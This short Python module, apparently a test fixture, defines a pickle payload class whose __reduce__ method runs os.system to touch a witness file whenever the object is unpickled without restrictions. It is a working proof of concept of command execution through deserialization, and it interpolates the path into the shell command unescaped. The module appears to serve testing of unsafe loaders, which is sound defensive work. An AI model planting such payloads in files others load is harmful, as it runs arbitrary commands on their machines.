"""Pickles that run a command in whoever reads them without care, and the files they hide in."""

import os
from collections.abc import Callable
from pathlib import Path


class Payload:
    """Leaves a file behind when unpickled without restrictions."""

    def __init__(self, witness: Path) -> None:
        self.witness = witness

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch '{self.witness}'",)
